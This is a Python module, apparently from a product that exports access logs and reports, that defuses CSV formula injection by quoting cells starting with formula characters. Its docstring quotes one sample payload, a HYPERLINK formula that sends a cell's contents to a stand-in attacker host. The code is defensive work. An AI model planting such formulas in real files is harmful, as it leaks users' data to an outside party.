"""CSV that a spreadsheet opens as data, never as formulas (issue 14, finding 2).

Every CSV the product writes (the access log, timelines, report tables) goes
through `writer()`. Following OWASP's advice on CSV injection, a cell that
begins with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a
single quote, so Excel and LibreOffice show the text instead of running it
(`=HYPERLINK("https://evil.example?"&A1, "Klicka")` stays a string). Plain
numbers (`-3`, `-1,5`) are left alone: they are figures, not formulas.
"""

from __future__ import annotations

import csv
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+([.,]\d+)?%?")


def safe_cell(value) -> object:
    """`value`, with a leading quote if a spreadsheet would read it as a formula."""
    if not isinstance(value, str):
        value = "" if value is None else value
        if not isinstance(value, str):
            return value
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """A `csv.writer` whose every cell passes through `safe_cell`."""

    def __init__(self, out, **kwargs) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def writer(out) -> SafeWriter:
    """The product's CSV dialect (semicolons, CRLF: what Swedish Excel opens) with safe cells."""
    return SafeWriter(out, delimiter=";", lineterminator="\r\n")
